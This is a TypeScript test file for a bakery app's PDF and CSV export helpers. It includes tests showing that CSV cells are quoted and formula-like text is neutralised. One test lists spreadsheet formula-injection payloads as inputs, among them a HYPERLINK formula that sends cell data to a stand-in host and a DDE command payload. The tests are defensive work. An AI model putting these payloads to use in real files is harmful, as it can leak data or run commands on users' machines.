import { execFileSync } from 'node:child_process';
import type { FastifyReply } from 'fastify';
import { AppError } from '@bakery/contracts';
import { inertText, sendCsv } from './csv';
import { drawTable, heading } from '@bakery/documents';
import { paperOf, sendPdf } from './pdf-answer';

/** Records what is answered the way Fastify's reply is used: status, headers, one body. */
function fakeResponse() {
  const chunks: Buffer[] = [];
  const headers: Record<string, string> = {};
  const res = {
    statusCode: 0,
    code(code: number) {
      res.statusCode = code;
      return res;
    },
    header(name: string, value: string) {
      headers[name.toLowerCase()] = value;
      return res;
    },
    send(body: Buffer) {
      chunks.push(body);
      return res;
    },
  };
  return { res: res as unknown as FastifyReply, headers, body: () => Buffer.concat(chunks) };
}

describe('paperOf', () => {
  it('defaults to A4 and takes letter in any case', () => {
    expect(paperOf(undefined)).toBe('A4');
    expect(paperOf('a4')).toBe('A4');
    expect(paperOf('Letter')).toBe('LETTER');
  });

  it('refuses anything else with a field message', () => {
    expect(() => paperOf('legal')).toThrow(AppError);
    try {
      paperOf(['letter']);
    } catch (err) {
      expect((err as AppError).fields).toEqual({ paper: ['paper must be one of a4, letter'] });
    }
  });
});

describe('sendPdf', () => {
  it('writes real text with the bakery on every page and page numbers, the table header repeated', async () => {
    const { res, headers, body } = fakeResponse();
    const rows = Array.from({ length: 120 }, (_, i) => [`Sourdough loaf ${i + 1}`, 'Bread', i + 1]);
    await sendPdf(res, { filename: 'bake-list-2026-12-02.pdf', title: 'Bake list 2026-12-02', bakeryName: 'Crumb & Co', paper: 'LETTER' }, (doc) => {
      heading(doc, 'Bread');
      drawTable(doc, [{ header: 'Product', width: 3 }, { header: 'Category', width: 2 }, { header: 'Units', width: 1, align: 'right' }], rows);
    });
    expect(headers['content-type']).toBe('application/pdf');
    expect(headers['content-disposition']).toBe('attachment; filename="bake-list-2026-12-02.pdf"');
    const text = execFileSync('pdftotext', ['-layout', '-', '-'], { input: body() }).toString();
    const pages = text.split('\f').filter((p) => p.trim() !== '');
    expect(pages.length).toBeGreaterThan(1);
    pages.forEach((page, i) => {
      expect(page).toContain('Crumb & Co');
      expect(page).toContain(`Page ${i + 1} of ${pages.length}`);
      expect(page).toMatch(/Product\s+Category\s+Units/);
    });
    expect(text).toMatch(/Sourdough loaf 120\s+Bread\s+120/);
  });
});

describe('sendCsv', () => {
  it('quotes cells and names the file', () => {
    const { res, headers, body } = fakeResponse();
    sendCsv(res, 'run-sheet-2026-12-02.csv', ['Stop', 'Business'], [[1, 'Crumb, "the" bakery'], [2, null]]);
    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(headers['content-disposition']).toBe('attachment; filename="run-sheet-2026-12-02.csv"');
    expect(body().toString('utf8')).toBe('\ufeffStop,Business\r\n1,"Crumb, ""the"" bakery"\r\n2,\r\n');
  });

  it('quotes a cell over several lines, whichever line end it has', () => {
    const { res, body } = fakeResponse();
    sendCsv(res, 'run-sheet.csv', ['Stop', 'Instructions'], [[1, 'Back door\nRing twice'], [2, 'Gate\rcode 12'], [3, 'Yard\r\nLeft']]);
    expect(body().toString('utf8')).toBe('\ufeffStop,Instructions\r\n1,"Back door\nRing twice"\r\n2,"Gate\rcode 12"\r\n3,"Yard\r\nLeft"\r\n');
  });

  it('writes text a spreadsheet would run as a formula as plain text, and numbers as numbers', () => {
    const { res, body } = fakeResponse();
    const attacks = ['=HYPERLINK("https://evil.test/?"&A1,"Back door")', "=cmd|' /C calc'!A0", '+44 20 7946 0000', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '\uFF1D1+1'];
    sendCsv(res, 'run-sheet.csv', ['Instructions', 'Figure'], [...attacks.map((a) => [a, -12.5]), ['Back door = yard', 0]]);
    const lines = body().toString('utf8').replace(/^\ufeff/, '').split('\r\n');
    expect(lines.slice(1, -1)).toEqual([
      `"'=HYPERLINK(""https://evil.test/?""&A1,""Back door"")",-12.5`,
      `'=cmd|' /C calc'!A0,-12.5`,
      `'+44 20 7946 0000,-12.5`,
      `'-2+3,-12.5`,
      `'@SUM(A1:A2),-12.5`,
      `'\t=1+1,-12.5`,
      `"'\r=1+1",-12.5`,
      `'\uFF1D1+1,-12.5`,
      'Back door = yard,0',
    ]);
  });
});

describe('inertText', () => {
  it('leaves text that starts with anything else as it is', () => {
    for (const text of ['Back door', '020 7946 1000', '', ' =1', 'Crumb & Co']) expect(inertText(text)).toBe(text);
    expect(inertText('=1')).toBe("'=1");
  });
});
